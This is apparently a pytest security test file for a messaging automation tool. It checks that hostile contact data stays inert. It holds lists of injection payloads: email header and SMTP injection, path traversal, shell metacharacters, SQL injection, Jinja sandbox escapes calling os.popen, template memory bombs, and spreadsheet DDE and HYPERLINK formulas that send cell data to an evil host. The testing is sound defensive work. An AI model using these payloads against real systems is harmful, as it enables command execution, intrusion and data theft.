"""S7: hostile names, addresses and ids out of a customer's own data, end to end; nothing escapes from the place where it belongs."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from email import message_from_bytes
from email.policy import default as modern
from pathlib import Path

import pytest

from libax_automate.engine.sheet import sheet
from libax_automate.errors import AutomateError
from libax_automate.template import Sandbox
from libax_automate.testing.mailbox import Mailbox
from libax_automate.testing.service import Reply, Service
from tests.conftest import Cli
from tests.figures import Figure

HEADER = [
    "Ana\r\nBcc: all@example.com", "Ana\nX-Evil: 1", "Ana\rBcc: x@example.com", "Ana\r\n\r\n<script>alert(1)</script>", "Ana\0Bcc: x", "Ana\x0b\x0cBcc: x@example.com",
    "Ana\u2028Bcc: x@example.com", "Ana\u2029Bcc: x@example.com", "Ana\x85Bcc: x@example.com", "=?utf-8?q?Ana=0D=0ABcc:_x@example.com?=", "Ana%0d%0aBcc: x@example.com",
    "Ana\\r\\nBcc: x", '"Ana" <evil@example.com>, x', "Ana,<evil@example.com>", "Ana;evil@example.com", "A" * 5000,
]  # fmt: skip
ADDRESS = [
    "ana@example.com\r\nRCPT TO:<evil@example.com>", "ana@example.com,evil@example.com", "ana@example.com;evil@example.com", "<ana@example.com>\nDATA", "ana@example.com>\r\nRSET",
    '"ana evil@example.com" <x@example.com>', "ana@example.com\0evil", "ana@@example.com", "-oQ/tmp@example.com", "|cat@example.com", "ana@[127.0.0.1]", "../../etc@example.com",
]  # fmt: skip
PATHS = [
    "../../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini", "a/../../b", "C:\\x", "~root", "file:///etc/passwd", "a\0b", "....//....//x", "%2e%2e%2fx", "con", "nul.txt", "x" * 300,
    "-rf", ".hidden", "a b", "é/ç", "\u202egpj.exe", "$(touch pwned)", "`touch pwned`", "; touch pwned", "| touch pwned",
]  # fmt: skip
SQL = [
    "'; DROP TABLE messages; --", '" OR 1=1 --', "1); DELETE FROM apps; --", "' UNION SELECT value FROM meta --", "Robert'); DROP TABLE models;--", "\\'; VACUUM INTO '/tmp/x'; --",
    "%' AND 1=1", "1' ATTACH DATABASE 'x' AS y", "x'||(SELECT sql FROM sqlite_master)||'", "?1", ":name", "NULL",
]  # fmt: skip
TEMPLATE = [
    "{{ 7 * 7 }}", "{% for i in range(10**9) %}x{% endfor %}", "{{ ''.__class__.__mro__ }}", "#FirstName#", "(#Email#)", "{{ config }}", "{{ self._TemplateReference__context }}", "${7*7}",
    "<%= 7*7 %>", "#{7*7}", "{{{{7*7}}}}", "{%raw%}{{x}}{%endraw%}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "%(name)s", "{0.__class__}", "{{ lipsum() }}",
]  # fmt: skip
FORMULA = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example.com?x="&A1)', "\t=1+1", "\r=1+1", "=IMPORTXML(1)", "-2+3+cmd|' /C calc'!A0", '"=1+1', "=1+1,x",
    "=DDE(1)", "+351 912 345 671", "@foo\n=1",
]  # fmt: skip
CORPUS = HEADER + PATHS + SQL + TEMPLATE + FORMULA

#: templates that a person with access to a profile might write
ESCAPES = [
    "{{ ''.__class__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ first_name.__init__.__globals__ }}", "{{ first_name|attr('__class__') }}", "{{ ''['__class__'] }}",
    "{{ ().__class__.__bases__ }}", "{{ self }}", "{{ self.__dict__ }}", "{{ config }}", "{{ request }}", "{{ cycler.__init__ }}", "{{ joiner }}", "{{ namespace() }}", "{{ lipsum() }}",
    "{{ dict.mro() }}", "{{ range.__class__ }}", "{% import 'os' as os %}", "{% include '/etc/passwd' %}", "{% extends 'x' %}", "{% set x = ''.__class__ %}{{ x }}", "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{{ m() }}",
    "{{ ''.join.__self__ }}", "{{ '{0.__class__}'.format(first_name) }}", "{{ '%s'|format(first_name.__class__) }}", "{{ first_name.format_map({}) }}", "{{ ['a']|map(attribute='__class__')|list }}",
    "{{ [1]|groupby('__class__') }}", "{{ first_name|map('attr', '__class__')|list }}", "{{ 'x'.encode().__class__ }}", "{{ open('/etc/passwd') }}", "{{ eval('1') }}", "{{ __import__('os') }}",
    "{{ first_name.translate.__globals__ }}", "{{ loop.__class__ }}", "{% for x in [1] %}{{ loop.__init__.__globals__ }}{% endfor %}",
]  # fmt: skip
#: templates that want the machine's time and memory
BOMBS = [
    "{{ 'x' * 10**10 }}", "{{ 10 ** 10 ** 10 }}", "{% for i in range(10**9) %}x{% endfor %}", "{{ range(10**12)|list }}", "{% for a in range(9999) %}{% for b in range(9999) %}x{% endfor %}{% endfor %}",
    "{{ 'x'.ljust(10**10) }}", "{{ 'x'|center(10**10) }}", "{{ '%010000000000d' % 1 }}", "{{ ['x'] * 10**10 }}", "{{ 'a'|replace('a', 'a' * 10**9) }}", "{{ ('x' * 10000) ~ ('x' * 10000) }}" * 100,
    "{{ 9 ** 9 ** 9 ** 9 }}", "{{ (1 << 10**10) }}", "{{ 'x'|indent(10**9) }}", "{{ '{:10000000000}'.format(1) }}", "{% set x = 'x' * 1000 %}" + "{% set x = x ~ x %}" * 40 + "{{ x }}",
    "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}", "{{ " + "-" * 5000 + "1 }}",
]  # fmt: skip

PROFILE = """
name = "padaria"
timezone = "UTC"
locale = "pt_PT"
country = "PT"
activation = "immediate"
[defaults]
email = "mail"
sms = "sms"
[apps.people]
connector = "csv"
contacts = "people.csv"
[apps.mail]
connector = "smtp"
host = "localhost"
port = {port}
security = "none"
sender = "Padaria <geral@example.com>"
allow_private = ["127.0.0.0/8", "::1/128"]
on_recipient_error = "skip"
[apps.files]
connector = "folder"
path = "out"
[apps.sms]
connector = "http"
url = "{url}/send"
json = {{ to = "{{{{ message.to }}}}", text = "{{{{ message.text }}}}" }}
allow_private = ["127.0.0.0/8"]
[models.by-mail]
use = "birthday"
source = "people"
at = "10:00"
via = "mail"
channel = "email"
subject = "Olá {{{{ name }}}}"
text = "Olá {{{{ name }}}}!"
html = "<p title='{{{{ name }}}}'>Olá {{{{ name }}}}</p>"
[models.by-file]
use = "birthday"
source = "people"
at = "10:00"
via = "files"
channel = "email"
subject = "Olá {{{{ name }}}}"
text = "Olá {{{{ name }}}}!"
[models.by-sms]
use = "birthday"
source = "people"
at = "10:00"
via = "sms"
channel = "sms"
text = "Olá {{{{ name }}}}!"
"""


def test_hostile_data_stays_data_from_the_csv_to_the_wire(home: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch, figure: Figure) -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["id", "name", "birth_date", "email", "mobile"])
    ids = [path for path in PATHS if "\0" not in path]
    for number, text in enumerate(CORPUS):
        address = ADDRESS[number] if number < len(ADDRESS) else f"p{number}@example.com"
        writer.writerow(
            [ids[number % len(ids)] + str(number) if number % 2 else str(number), text, "1980-12-24", address, f"+35191200{number:04}"]
        )
    (home / "people.csv").write_bytes(out.getvalue().encode("utf-8", "surrogatepass"))
    monkeypatch.setenv("AUTOMATE_DB", str(home / "state" / "automate.db"))
    before = {path for path in Path("/tmp").iterdir() if path.name in ("pwned", "x")}
    with Mailbox() as box, Service(default=Reply(200, {"id": "1"})) as service:
        (home / "profiles.toml").write_text(PROFILE.format(port=box.port, url=service.url), encoding="utf-8")
        (home / "profiles.toml").chmod(0o600)
        assert cli("run", "--now", "2026-12-24T09:00").code in (0, 3)
        for minute in range(1, 4):
            done = cli("run", "--now", f"2026-12-24T10:0{minute}")
            assert done.code in (0, 3), done
            assert "Traceback" not in done.err
            for error in cli("errors", "list", "--json").json["items"]:
                assert error["class"] in ("content", "recipient"), error
                cli("errors", "skip", error["id"])
        mails, calls = list(box.messages), list(service.requests)
        commands = list(box.commands)

    wrong: list[str] = []
    # headers: the ones that we write, each once, and one recipient each, who is in our list
    for mail in mails:
        parsed = message_from_bytes(mail.content, policy=modern)
        names = [name.lower() for name, _ in parsed.items()]
        if {"bcc", "x-evil", "cc"} & set(names) or any(names.count(each) != 1 for each in ("subject", "to", "from")):
            wrong.append(f"mail: headers {names}")
        if len(mail.recipients) != 1 or "evil" in mail.recipients[0] or not mail.recipients[0].endswith("example.com"):
            wrong.append(f"mail: recipients {mail.recipients}")
        html = parsed.get_body(("html",))
        if html is not None and "<script" in html.get_content():
            wrong.append("mail: script in HTML")
    wrong += [
        f"mail: command {line!r}"
        for line in commands
        if "evil" in line.lower() and "RCPT" in line and "@example.com" in line and "evil@" in line
    ]
    # template text in data is said as it stands
    texts = [call.json()["text"] for call in calls]
    for text in TEMPLATE:
        said = [each for each in texts if text in each]
        if not said:
            wrong.append(f"sms: {text!r} was not sent as it stands")
    wrong += [f"sms: {each!r}" for each in texts if each == "Olá 49!"]
    # files: in their folder alone
    places = {path.parent for path in home.rglob("*.eml")}
    if places != {home / "out"}:
        wrong.append(f"files: {places}")
    if {path for path in Path("/tmp").iterdir() if path.name in ("pwned", "x")} != before or list(home.rglob("pwned")):
        wrong.append("files: something was run")
    # the database: every table is there and sound, and what was asked for with hostile words is not found
    assert cli("db", "check").code == 0
    for words in SQL + PATHS + HEADER[:3]:
        for command in (
            ["explain", "by-sms", words],
            ["queue", "show", words],
            ["tasks", "list", "--model", words],
            ["suppress", "add", words],
            ["models", "enable", words],
        ):
            done = cli(*command, "--json")
            if done.code not in (0, 2, 3, 5, 78) or "Traceback" in done.err:
                wrong.append(f"{command}: exit {done.code} {done.err[:200]}")
    assert cli("db", "check").code == 0
    assert len(cli("queue", "list", "--json").json["items"]) >= 3
    # a terminal is not steered by a name
    shown = cli("plan", "by-sms")
    if any(ord(letter) < 32 and letter != "\n" for letter in shown.out) or "\u202e" in shown.out:
        wrong.append("terminal: control characters")
    figure(f"S7 {len(CORPUS)} names and {len(ADDRESS)} addresses: {len(mails)} mails, {len(texts)} texts, {len(wrong)} escapes")
    assert wrong == []
    # a NUL makes a bad row, and some words stand for an empty name: those are listed and not sent
    assert len(texts) >= len(CORPUS) - 5


@pytest.mark.parametrize("source", ESCAPES)
def test_no_template_leaves_the_sandbox(source: str) -> None:
    try:
        said = Sandbox().template(source).render({"first_name": "Ana"})
    except AutomateError:
        return
    assert not any(word in said for word in ("class", "module", "<function", "globals", "root:", "object at"))


#: in a process of its own, whose memory is nobody else's: what each template takes, and the most memory (MB) there was
_ALONE = """
import contextlib, json, pathlib, sys, time
from libax_automate.errors import AutomateError
from libax_automate.template import Sandbox
longest, out = 0.0, 0
for source in json.load(sys.stdin):
    began = time.perf_counter()
    with contextlib.suppress(AutomateError):
        out = max(out, len(Sandbox().template(source).render({"first_name": "Ana"})))
    longest = max(longest, time.perf_counter() - began)
peak = next(int(line.split()[1]) for line in pathlib.Path("/proc/self/status").read_text().splitlines() if line.startswith("VmHWM"))
print(json.dumps([longest, out, peak / 1024]))
"""


def test_no_template_takes_the_machine(figure: Figure) -> None:
    done = subprocess.run([sys.executable, "-c", _ALONE], input=json.dumps(BOMBS), capture_output=True, text=True, check=True)
    longest, out, peak = json.loads(done.stdout)
    figure(
        f"S7 {len(BOMBS)} template bombs and {len(ESCAPES)} escapes: longest {longest:.2f} s, largest output {out} characters, "
        f"peak memory {peak:.0f} MiB"
    )
    assert longest < 5
    assert out <= 512 * 1024
    assert peak <= 512


def test_no_cell_of_an_export_is_a_formula(figure: Figure) -> None:
    text = sheet(["name"], [[cell] for cell in CORPUS])
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    bare = [row[0] for row in rows if row[0][:1] in ("=", "+", "-", "@", "\t", "\r")]
    figure(f"S7 {len(rows)} cells exported, {len(bare)} formulas")
    assert len(rows) == len(CORPUS)
    assert bare == []
    assert [
        row[0].removeprefix("'") if original[:1] in "=+-@\t\r" else row[0] for row, original in zip(rows, CORPUS, strict=True)
    ] == CORPUS


def test_every_csv_that_the_program_writes_for_people_is_defused() -> None:
    import libax_automate

    package = Path(libax_automate.__file__).parent
    writers = {
        path.name
        for path in package.rglob("*.py")
        if "csv.writer" in path.read_text(encoding="utf-8") or "DictWriter" in path.read_text(encoding="utf-8")
    }
    assert writers <= {"sheet.py"}, "a file for spreadsheets is written by engine/sheet.py, which defuses every cell"
